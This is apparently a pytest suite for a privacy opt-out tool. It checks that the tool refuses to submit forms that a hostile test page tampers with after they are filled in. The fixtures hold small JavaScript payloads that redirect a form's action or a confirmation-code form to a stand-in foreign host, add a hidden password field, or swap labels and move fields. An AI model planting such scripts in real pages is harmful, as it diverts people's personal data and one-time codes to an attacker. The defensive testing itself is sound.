"""A page that changes what was filled in, between the filling and the person's turn."""

import pytest
from support.hostile_site import FORM, HostileSite
from support.world import World

pytestmark = pytest.mark.headed

_NAMED = FORM.replace(
    '<p><label>Email address <input name="email"',
    '<p><label><span>Full name</span> <input name="name"></label></p>'
    '<p><label><span>Email address</span> <input name="email"',
).replace('type="email" ', "")
_ONCE_FILLED = """<script>let done = false; addEventListener('input', e => {
  if (e.target.matches('textarea') && !done) { done = true; setTimeout(() => { %s }, 100); }
}, true);</script>"""

ELSEWHERE = {
    "the action": FORM + _ONCE_FILLED % "document.forms[0].action = '{foreign}/send'",
    "a button": FORM + _ONCE_FILLED % "document.body.insertAdjacentHTML('beforeend', "
    "`<button form=f formaction='{foreign}/send'>Send</button>`); document.forms[0].id = 'f'",
    "a password": FORM + _ONCE_FILLED % "document.forms[0].insertAdjacentHTML('beforeend', "
    "'<input type=password hidden>')",
}
MOVED = {
    "labels swapped": _NAMED
    + _ONCE_FILLED
    % "const [a, b] = document.querySelectorAll('span'); const t = a.textContent; "
    "a.textContent = b.textContent; b.textContent = t; "
    "const [x, y] = document.querySelectorAll('input'); x.name = 'q'; y.name = 'r'",
    "into another form": FORM
    + "<form action='/other' id=g></form>"
    + _ONCE_FILLED % "g.append(document.querySelector('[name=email]').closest('p'))",
}


@pytest.mark.parametrize("what", ELSEWHERE)
def test_a_form_that_now_sends_elsewhere_is_not_handed_over(world: World, what: str) -> None:
    with HostileSite({"/": ELSEWHERE[what]}) as site:
        tool = world.run("facebook", "--url", site.own + "/")
        tool.expect("It would now send what is filled in", timeout=60)
        tool.expect("Do not send it")
        tool.expect("by hand, with the letter to copy")
        tool.type("n")
        assert tool.exit(timeout=60) == 4
        assert not [r for r in site.requests if "/send" in r]
    assert "you check and" not in tool.text
    assert world.record()["state"] == "changed"


@pytest.mark.parametrize("what", MOVED)
def test_a_field_that_moved_is_the_persons(world: World, what: str) -> None:
    with HostileSite({"/": MOVED[what]}) as site:
        tool = world.run("facebook", "--url", site.own + "/")
        tool.expect("the page has moved fields since they were filled in", timeout=60)
        tool.expect("e-mail: optout is not sure which field it is")
        tool.expect("how do you want to go on")
        tool.expect(r"Number \[1\] > ")
        assert "you check and" not in tool.text
        tool.type("3")
        tool.expect("you check and")
        tool.interrupt()
        assert tool.exit(timeout=60) == 130
        assert not [r for r in site.requests if "/send" in r or "/other" in r]
    assert world.record()["fields"]["email"]["status"] == "ambiguous"


ASKS = """<h1>Confirm your objection</h1>
<p>Enter the 6-digit code that we sent to your email address.</p>
<form method="post" action="/code"><p><label>Confirmation code
<input name="code" inputmode="numeric" autocomplete="one-time-code" required></label></p>
<button>Confirm</button></form><script>addEventListener('input', () => {
  document.forms[0].action = '{foreign}/code'; }, true);</script>"""
SENDS = _ONCE_FILLED % "setTimeout(() => document.forms[0].requestSubmit(), 3900)"


def test_a_code_form_that_sends_elsewhere_is_not_confirmed(world: World) -> None:
    with HostileSite({"/": FORM + SENDS, "/send": ASKS}) as site:
        tool = world.run("facebook", "--url", site.own + "/")
        tool.expect("Paste the code", timeout=60)
        tool.type("482915")
        tool.expect("It would now send what is filled in", timeout=60)
        tool.interrupt()
        assert tool.exit(timeout=60) == 130
        assert "/code" not in site.foreign_requests
    assert world.record()["state"] == "code_asked"
